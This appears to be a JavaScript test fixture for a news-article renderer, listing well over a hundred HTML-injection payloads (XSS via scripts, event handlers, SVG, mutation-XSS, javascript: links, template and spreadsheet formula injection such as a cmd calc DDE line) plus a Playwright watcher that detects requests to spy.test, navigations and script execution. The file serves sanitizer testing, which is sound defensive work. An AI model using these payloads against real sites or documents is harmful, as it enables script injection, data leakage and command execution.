/**
 * Words that would run or load something where they become markup: our own list, after the classes that are well known.
 * `watched` sees whether any did.
 */

/** What a script would do. */
const RUN = 'globalThis.ran=1';
/** What would be asked for. */
const SPY = 'http://spy.test/asked';

/** By class. */
export const CLASSES = {
  scripts: [
    `<script>${RUN}</script>`,
    `<script src=${SPY}></script>`,
    `<script type=module>${RUN}</script>`,
    `<script>/* </script><script>*/ ${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<ScRiPt\n>${RUN}</sCrIpT\t>`,
    `<script/x>${RUN}</script/x>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script type="importmap">{"imports":{"a":"${SPY}"}}</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${SPY}"]}]}</script>`,
  ],
  handlers: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}" onload='${RUN}'>`,
    `<image src=x onerror=${RUN}>`,
    `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<textarea autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<video src=${SPY} poster=${SPY} onloadstart=${RUN}></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<div style="animation:a 1s" onanimationstart=${RUN}><style>@keyframes a{}</style></div>`,
    `<div onpointerover=${RUN} onclick=${RUN} tabindex=0 onfocus=${RUN}>x</div>`,
    `<a/onmouseover=${RUN}/href=#>x</a>`,
    `<p oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>x</p>`,
    `<button popovertarget=x onbeforetoggle=${RUN}>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
    `" onfocus="${RUN}" autofocus="`,
    `' onerror='${RUN}' src='x`,
    `x onmouseover=${RUN} y`,
  ],
  vector: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href=${SPY} /></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='${SPY}'/></svg>#x"/></svg>`,
    `<svg><image href=${SPY} /></svg>`,
    `<svg><foreignObject><iframe src=javascript:${RUN}></iframe></foreignObject></svg>`,
    `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
    `<math href=javascript:${RUN}>x</math>`,
    `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<svg><style><![CDATA[</style><img src=x onerror=${RUN}>]]></svg>`,
    `<table><td><svg><desc><td></desc></svg><img src=x onerror=${RUN}>`,
    `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
    `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
    `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
    `<title><p title="</title><img src=x onerror=${RUN}>">`,
    `<plaintext><img src=x onerror=${RUN}>`,
    '<a id=attributes><a id=attributes name=parentNode><form id=body><input name=textContent>',
  ],
  loading: [
    `<style>@import '${SPY}';*{background:url(${SPY})}</style>`,
    `<p style="background:url(${SPY});behavior:url(${SPY})">x</p>`,
    `<link rel=stylesheet href=${SPY}>`,
    `<link rel=preload as=script href=${SPY}><link rel=prefetch href=${SPY}><link rel=dns-prefetch href=//spy.test>`,
    `<link rel=manifest href=${SPY}><link rel=icon href=${SPY}>`,
    `<meta http-equiv=refresh content="0;url=${SPY}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=Content-Security-Policy content="script-src *">`,
    `<base href=${SPY}/><a href=x>x</a>`,
    `<base target=_top><img src=${SPY} srcset="${SPY} 2x">`,
    `<picture><source srcset=${SPY}><img></picture>`,
    `<object data=${SPY}></object><embed src=${SPY}>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<applet code=${SPY}></applet><bgsound src=${SPY}>`,
    `<table background=${SPY}><tr><td background=${SPY}>x</table>`,
    `<track src=${SPY} default><video controls><track src=${SPY} default></video>`,
  ],
  frames: [
    `<iframe src=${SPY}></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN.replace('globalThis.', '')}</script>"></iframe>`,
    `<iframe src=javascript:parent.ran=1></iframe>`,
    `<iframe src="data:text/html,<script>parent.ran=1</script>"></iframe>`,
    `<frameset onload=${RUN}><frame src=${SPY}></frameset>`,
    `<portal src=${SPY}></portal><fencedframe src=${SPY}></fencedframe>`,
  ],
  addresses: [
    `<a href=javascript:${RUN}>x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="&#x6a;avascript&colon;${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==">x</a>`,
    `<a href=vbscript:x ping=${SPY} download>x</a>`,
    `javascript:${RUN}//`,
    `[x](javascript:${RUN}) ![x](${SPY})`,
    `<javascript:${RUN}> <${SPY}>`,
    `<area href=javascript:${RUN}><map name=m><area href=javascript:${RUN}></map>`,
  ],
  templates: [
    `<template><script>${RUN}</script></template>`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `<div><template shadowrootmode=open><style>@import '${SPY}'</style></template></div>`,
    '{{constructor.constructor("ran=1")()}}',
    '${globalThis.ran=1} `${globalThis.ran=1}` <%= ran=1 %> #{ran=1}',
    `<x-element onclick=${RUN}></x-element><news-mark for=body src=${SPY}></news-mark>`,
    `<button is=news-mark onfocus=${RUN} autofocus>x</button>`,
    `<p is="x-y" onclick=${RUN}>x</p><slot onslotchange=${RUN}></slot>`,
  ],
  forms: [
    `<form action=${SPY}><input name=a value=b><button>x</button></form>`,
    `<form><button formaction=javascript:${RUN}>x</button></form>`,
    `<form id=f></form><input form=f type=submit formaction=${SPY} autofocus>`,
    `<input type=image src=${SPY} formaction=${SPY}>`,
    `<isindex type=image src=${SPY} onerror=${RUN}>`,
    `<dialog open onclose=${RUN} oncancel=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
    `<keygen autofocus onfocus=${RUN}>`,
  ],
  comments: [
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
    `<!--[if IE]><script>${RUN}</script><![endif]-->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml-stylesheet href="${SPY}"?><img src=x onerror=${RUN}>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${SPY}">]><x>&e;</x>`,
    `--><img src=x onerror=${RUN}><!--`,
    `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script><![CDATA[`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  ],
  broken: [
    `<img src=x onerror=${RUN}//`,
    `<img src="x" onerror="${RUN}`,
    `<<script>${RUN}//<</script>`,
    `<script>${RUN}`,
    `<img \u0000src=x onerror=${RUN}>`,
    `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
    `<\u0000img src=x onerror=${RUN}>`,
    `<img/src=x\u000conerror=${RUN}>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&#60img src=x onerror=${RUN}&#62`,
    `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
    `\u003cimg src=x onerror=${RUN}\u003e`,
    `＜img src=x onerror=${RUN}＞`,
    `<a title="</article></main></body></html><img src=x onerror=${RUN}>">x`,
    `\u202e>1=nar.sihTlabolg=rorreno x=crs gmi<`,
  ],
  formulas: [
    `=HYPERLINK("${SPY}";"x")`,
    "=cmd|' /C calc'!A0",
    '+1+1|x',
    `-2+3+cmd|' /C calc'!A0`,
    '@SUM(1+1)',
    '\t=1+1',
    `=IMPORTXML("${SPY}","//a")`,
    `＝IMAGE("${SPY}")`,
  ],
};

/** All of them. */
export const VECTORS = Object.values(CLASSES).flat();

/** An article with `vector` in its headline, beside a name, in a quote and in front of a date. */
export const articleWith = (vector) => `Mill at Larkhaven to turn again ${vector}

By Lena Harrow
4 October 2021

Mayor Odile Marsh ${vector} met Piet Sandvik of Hull & Sons Ltd on Monday. “The mill ${vector} is back,” said Marsh.

The repair cost $3.5 million ${vector} on 3 October 2021.
`;

/** An article with all of them, a paragraph each. */
export const everything = () =>
  `Mill at Larkhaven to turn again\n\n4 October 2021\n\n${VECTORS.map((vector, n) => `Mayor Odile Marsh ${vector} met Piet Sandvik in Brest, and “it ${vector} is back,” said Marsh on ${1 + (n % 28)} May 2021.`).join('\n\n')}\n`;

/**
 * Looks for what must not happen in pages of `context`: requests to anywhere but `allowed`, navigations, dialogs, new
 * windows. Returns what says what did, with what scripts of words left.
 *
 * @param {(url: string) => boolean} allowed
 */
export async function watched(context, page, allowed) {
  const seen = [];
  await context.route((url) => !allowed(url.href) && !/^(data|blob|about):/.test(url.protocol), (route) => {
    seen.push(`asked for ${route.request().url()}`);
    return route.abort();
  });
  context.on('page', (other) => void (other !== page && seen.push(`a window ${other.url()}`)));
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (!allowed(frame.url()) && frame.url() !== 'about:blank') seen.push(`went to ${frame.url()}`);
  });
  return async () => {
    for (const frame of page.frames()) {
      const ran = await frame.evaluate(() => globalThis.ran).catch(() => undefined);
      if (ran !== undefined) seen.push(`a script ran in ${frame.url()}`);
    }
    return [...new Set(seen)];
  };
}
